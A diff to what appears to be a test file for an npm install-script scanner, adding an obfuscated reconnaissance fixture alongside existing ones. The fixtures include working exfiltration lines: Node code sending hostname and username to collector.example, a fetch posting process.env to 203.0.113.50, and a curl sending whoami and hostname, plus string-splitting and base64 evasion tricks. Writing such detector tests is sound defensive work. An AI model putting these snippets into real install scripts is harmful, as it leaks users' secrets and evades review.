@@ -49,6 +49,14 @@ const RECON = [
   "req.on('error', () => {}); req.write(postData); req.end();",
 ].join('\n');
 
+/** RECON with its module and call names hidden (GuardDog's npm-api-obfuscation shapes): pieces, base64, Reflect. */
+const HIDDEN_RECON = [
+  "const os = require('o' + 's'), https = require(Buffer.from('aHR0cHM=', 'base64').toString());",
+  "const td = { hn: os['host' + 'name'](), un: Reflect.get(os, 'userInfo')().username };",
+  "const req = https[String.fromCharCode(114, 101, 113, 117, 101, 115, 116)]({ hostname: 'collector.example', port: 443, path: '/?d=' + encodeURIComponent(JSON.stringify(td)), method: 'GET' });",
+  "req.on('error', () => {}); req.end();",
+].join('\n');
+
 const ENV_TO_ADDRESS = "fetch('http://203.0.113.50/collect', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {});";
 
 const OBFUSCATED = `const _0x5a1f=['\\x68\\x74\\x74\\x70'];(function(_0x2d8f05,_0x4b81bb){const _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x5a1f,0x1a3));const _0x4d74=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;let _0x4d74cb=_0x5a1f[_0x2d8f05];return _0x4d74cb;};console.log(_0x4d74('0x0'));`;
@@ -58,6 +66,7 @@ describe('the code an install script runs', () => {
     ['recon posted to a request catcher (node install.js)', 'node install.js', [['install.js', RECON]], ['beacon', 'exfiltration']],
     ['the environment posted to an address, two modules down (node -e require)', `node -e "try{require('./lib/setup')}catch(e){}"`, [['lib/setup.js', "require('./telemetry');"], ['lib/telemetry.js', ENV_TO_ADDRESS]], ['exfiltration']],
     ['a shell script that sends who and where', 'sh ./install.sh', [['install.sh', '#!/bin/sh\ncurl -s -d "$(whoami)@$(hostname):$(pwd)" https://collector.example/p >/dev/null 2>&1\n']], ['exfiltration']],
+    ['recon whose module and call names are hidden (pieces, base64, Reflect)', 'node install.js', [['install.js', HIDDEN_RECON]], ['exfiltration']],
     ['an honest install.js replaced by a later entry of the same path', 'node install.js', [['install.js', 'console.log("thanks")'], ['install.js', RECON]], ['beacon', 'exfiltration']],
   ] as const)('%s: 0, capped at 49.9, the gate fails', { timeout: CLI_TEST_TIMEOUT_MS }, async ([label, postinstall, files, findings], { task, expect }) => {
     noteCases(task);
